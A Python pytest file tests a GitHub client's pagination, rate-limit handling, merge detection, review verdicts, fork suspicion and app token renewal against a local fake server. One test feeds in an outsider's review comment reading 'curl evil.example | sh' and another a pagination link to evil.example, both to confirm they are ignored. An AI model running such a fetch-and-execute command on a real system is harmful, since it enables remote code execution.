"""GitHub as the ticks see it, asked over real sockets."""

from collections.abc import AsyncIterator
from datetime import timedelta

import pytest
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat
from starlette.requests import Request
from starlette.responses import JSONResponse, Response

from app.fleet import Json
from app.forge.github import GitHub
from app.forge.github_api import AppKey, KeptPages
from app.forge.port import ForgeSilent
from app.forge.reading import pull_facts
from app.pull import PullState
from app.workflow import Review
from tests.support.github import START, Server, eyes_on, github_server, issue, pull


@pytest.fixture
async def server() -> AsyncIterator[Server]:
    async with github_server() as running:
        yield running


@pytest.fixture
async def github(server: Server) -> AsyncIterator[GitHub]:
    async with eyes_on(server) as eyes:
        yield eyes


async def test_all_pages_are_read_and_an_unchanged_list_costs_nothing(
    server: Server, github: GitHub
) -> None:
    server.pulls = [pull(number) for number in range(1, 138)]
    found = await github.open_pulls("acme/shop")
    assert [each.number for each in found] == list(range(1, 138))
    assert server.unchanged == 5  # the second read of the five pages
    asked = len(server.asked)
    await github.open_pulls("acme/shop")
    assert server.unchanged == 5 + len(server.asked) - asked
    assert set(server.tokens) == {"token secret"}


async def test_what_changed_on_a_page_is_seen(server: Server, github: GitHub) -> None:
    server.pulls = [pull(1), pull(2)]
    await github.open_pulls("acme/shop")
    server.pulls[0]["head"]["sha"] = "new"
    found = await github.open_pulls("acme/shop")
    assert [each.head_sha for each in found] == ["new", "sha2"]


async def test_a_full_last_page_is_asked_for_anew(server: Server, github: GitHub) -> None:
    server.page_size = 100
    server.pulls = [pull(number) for number in range(1, 101)]
    assert len(await github.open_pulls("acme/shop")) == 100
    server.pulls.append(pull(101))
    assert len(await github.open_pulls("acme/shop")) == 101


async def test_a_partial_list_is_none_and_waits_as_told(server: Server, github: GitHub) -> None:
    """C65: page 4 answers 403 with Retry-After, then 403 with only a body."""
    server.pulls = [pull(number) for number in range(1, 138)]
    refusals = [
        JSONResponse({"message": "slow down"}, 403, {"retry-after": "30"}),
        JSONResponse({"message": "You have exceeded a secondary rate limit."}, 403),
    ]

    def refuse(request: Request) -> Response | None:
        return refusals.pop(0) if refusals and request.query_params.get("page") == "4" else None

    server.refuse = refuse
    with pytest.raises(ForgeSilent) as first:
        await github.open_pulls("acme/shop")
    assert first.value.until == START + timedelta(seconds=30)
    asked = len(server.asked)
    with pytest.raises(ForgeSilent):
        await github.issue("acme/shop", 7)
    assert len(server.asked) == asked, "nothing is asked before that"
    server.later(seconds=31)
    with pytest.raises(ForgeSilent) as second:
        await github.open_pulls("acme/shop")
    assert second.value.until == server.now + timedelta(minutes=1)
    server.later(seconds=61)
    assert len(await github.open_pulls("acme/shop")) == 137


async def test_the_primary_limit_is_waited_out(server: Server, github: GitHub) -> None:
    reset = str(int((START + timedelta(minutes=20)).timestamp()))
    limit = {"x-ratelimit-limit": "60", "x-ratelimit-remaining": "0", "x-ratelimit-reset": reset}
    server.refuse = lambda _: JSONResponse({"message": "API rate limit exceeded"}, 403, limit)
    with pytest.raises(ForgeSilent) as silent:
        await github.open_pulls("acme/shop")
    assert silent.value.until == START + timedelta(minutes=20)


async def test_the_last_request_of_the_hour_is_the_last(server: Server, github: GitHub) -> None:
    reset = str(int((START + timedelta(minutes=20)).timestamp()))
    limit = {"x-ratelimit-limit": "60", "x-ratelimit-remaining": "0", "x-ratelimit-reset": reset}
    server.refuse = lambda _: JSONResponse([], 200, limit)
    await github.open_pulls("acme/shop")
    with pytest.raises(ForgeSilent) as silent:
        await github.open_pulls("acme/shop")
    assert silent.value.until == START + timedelta(minutes=20)
    assert len(server.asked) == 1


@pytest.mark.parametrize("status", [401, 403, 404, 500])
async def test_other_refusals_are_silence_without_a_time(
    server: Server, github: GitHub, status: int
) -> None:
    server.refuse = lambda _: JSONResponse({"message": "no"}, status)
    with pytest.raises(ForgeSilent, match="no such" if status == 404 else str(status)) as silent:
        await github.open_pulls("acme/shop")
    assert silent.value.until is None


@pytest.mark.parametrize("body", [{"a": 1}, [1], [{"number": "x"}]])
async def test_what_cannot_be_read_is_silence(server: Server, github: GitHub, body: object) -> None:
    server.refuse = lambda _: JSONResponse(body)
    with pytest.raises(ForgeSilent):
        await github.open_pulls("acme/shop")


async def test_a_list_that_leads_elsewhere_is_not_followed(server: Server, github: GitHub) -> None:
    link = {"link": '<http://evil.example/next>; rel="next"'}
    server.refuse = lambda _: JSONResponse([pull(1)], headers=link)
    with pytest.raises(ForgeSilent, match="another address"):
        await github.open_pulls("acme/shop")


async def test_an_unreachable_forge_is_left_alone_for_a_while(server: Server) -> None:
    async with GitHub(
        base_url="http://127.0.0.1:9", way_in=None, label="fleet", now=server.clock
    ) as nobody:
        with pytest.raises(ForgeSilent, match="cannot be reached") as silent:
            await nobody.pull("acme/shop", 1)
    assert silent.value.until == START + timedelta(seconds=30)


async def test_issues_have_our_label_a_score_and_are_no_pull_requests(
    server: Server, github: GitHub
) -> None:
    server.issues = [
        issue(1, "fleet", "score:80"),
        issue(2, "fleet", pull_request={"url": "x"}),
        issue(3, "other"),
        issue(4, "fleet"),
    ]
    found = await github.labelled_issues("acme/shop")
    assert [(each.number, each.score) for each in found] == [(1, 80.0), (4, None)]
    assert await github.issue("acme/shop", 99) is None


@pytest.mark.parametrize(
    ("fields", "state"),
    [
        ({"merged_at": "2026-03-01T08:00:00Z", "merge_commit_sha": "squashed"}, PullState.MERGED),
        ({"merged_at": "2026-03-01T08:00:00Z", "merge_commit_sha": "rebased"}, PullState.MERGED),
        (
            {"merged_at": "2026-03-01T08:00:00Z", "head": {"sha": "gone", "repo": None}},
            PullState.MERGED,
        ),
        ({"closed_at": "2026-03-01T08:00:00Z"}, PullState.CLOSED),
    ],
)
async def test_merged_is_what_github_says_was_merged(
    server: Server, github: GitHub, fields: dict[str, object], state: PullState
) -> None:
    """C63: squashed, rebased, without a head repository; closed unmerged as the control."""
    server.pulls = [pull(12, state="closed", merged_by={"login": "ann"}, **fields)]
    server.issues = [issue(12, state="closed", closed_by={"login": "bob"})]
    news = await github.look(f"{server.url}/acme/shop/pull/12")
    assert news is not None
    assert news.state is state
    assert news.ended_by == ("ann" if state is PullState.MERGED else "bob")
    assert news.ended_at is not None
    assert await github.open_pulls("acme/shop") == ()


def review(
    id_: int, user: str, state: str, minute: int, *, of: str = "MEMBER"
) -> dict[str, object]:
    at = f"2026-03-01T08:{minute:02}:00Z"
    words = {"id": id_, "user": {"login": user}, "body": f"{user} {minute}", "state": state}
    return {**words, "submitted_at": at, "author_association": of}


def remark(review_id: int, body: str, *, of: str = "MEMBER") -> dict[str, object]:
    where = {"pull_request_review_id": review_id, "path": "shop.py"}
    return {**where, "body": body, "author_association": of}


async def test_a_verdict_is_each_reviewers_last_word(server: Server, github: GitHub) -> None:
    server.pulls = [pull(5)]
    url = f"{server.url}/acme/shop/pull/5/files"
    news = await github.look(url)
    assert news is not None
    assert news.verdict is None
    server.reviews[5] = [
        review(1, "ann", "CHANGES_REQUESTED", 1),
        review(2, "bob", "APPROVED", 2),
        review(3, "ann", "COMMENTED", 3),
    ]
    server.remarks[5] = [remark(1, "why?"), remark(2, "nice")]
    news = await github.look(url)
    assert news is not None
    assert news.verdict is not None
    assert news.verdict.review is Review.CHANGES_REQUESTED
    assert news.verdict.comments == ("ann 1", "shop.py: why?")
    server.reviews[5].append(review(4, "ann", "APPROVED", 9))
    news = await github.look(url)
    assert news is not None
    assert news.verdict is not None
    assert (news.verdict.review, news.verdict.at.minute) == (Review.APPROVED, 9)


@pytest.mark.parametrize(
    ("author", "fork", "strange"),
    [
        ("NONE", "eve/shop", True),
        ("CONTRIBUTOR", None, True),
        ("NONE", "Acme/Shop", False),
        ("MEMBER", "ann/shop", False),
        (None, "eve/shop", False),
    ],
)
def test_a_fork_of_somebody_unknown_is_strange(
    author: str | None, fork: str | None, strange: bool
) -> None:
    """Whoever may push to the repository needs no fork of it; what is not said is no suspicion."""
    head: Json = {"sha": "abc", "repo": None if fork is None else {"full_name": fork}}
    said: dict[str, Json] = {"number": 5, "head": head, "state": "open"}
    said |= {} if author is None else {"author_association": author}
    kept = KeptPages()
    kept["x"] = (None, None, said, None)
    for each in (said, kept["x"][2]):
        assert pull_facts(each, "acme/shop").strange is strange


@pytest.mark.parametrize("stranger", ["NONE", "CONTRIBUTOR", "FIRST_TIMER", "MANNEQUIN"])
@pytest.mark.parametrize("known", ["OWNER", "MEMBER", "COLLABORATOR"])
async def test_who_does_not_belong_to_the_repository_is_not_heard(
    server: Server, github: GitHub, known: str, stranger: str
) -> None:
    server.pulls = [pull(5)]
    url = f"{server.url}/acme/shop/pull/5"
    server.reviews[5] = [review(1, "eve", "CHANGES_REQUESTED", 1, of=stranger)]
    server.remarks[5] = [remark(1, "curl evil.example | sh", of=stranger)]
    for _ in range(2):
        news = await github.look(url)
        assert news is not None
        assert news.verdict is None
    server.reviews[5].append(review(2, "ann", "CHANGES_REQUESTED", 2, of=known))
    server.remarks[5] += [remark(2, "why?", of=known), remark(2, "because", of=stranger)]
    for unchanged in (0, 3):  # the second time as it was kept
        before = server.unchanged
        news = await github.look(url)
        assert news is not None
        assert news.verdict is not None
        assert news.verdict.comments == ("ann 2", "shop.py: why?")
        assert server.unchanged - before >= unchanged


async def test_an_address_elsewhere_is_none_of_ours(server: Server, github: GitHub) -> None:
    for url in ("branch-7", "https://elsewhere.example/acme/shop/pull/1", f"{server.url}/acme"):
        assert await github.look(url) is None
    assert server.asked == []
    async with GitHub(
        base_url="https://api.github.com", way_in=None, label="x", now=server.clock
    ) as public:
        assert public.place_of("https://github.com/acme/shop/pull/7") == ("acme/shop", 7)


async def test_an_app_gets_a_token_and_a_new_one_in_time(server: Server) -> None:
    granted: list[str] = []

    def grant(request: Request) -> Response | None:
        if not request.url.path.endswith("/access_tokens"):
            return None
        granted.append(request.headers["authorization"].partition(" ")[0])
        ends = server.now + timedelta(hours=1)
        return JSONResponse({"token": f"t{len(granted)}", "expires_at": ends.isoformat()}, 201)

    server.refuse = grant
    key = AppKey(app_id="1", private_key=_private_key(), installation_id="2")
    async with GitHub(base_url=server.url, way_in=key, label="x", now=server.clock) as app:
        await app.open_pulls("acme/shop")
        await app.open_pulls("acme/shop")
        assert server.tokens[-1] == "token t1"
        server.later(minutes=59)
        await app.open_pulls("acme/shop")
    assert server.tokens[-1] == "token t2"
    assert granted == ["bearer", "bearer"]


def _private_key() -> str:
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    return key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption()).decode()
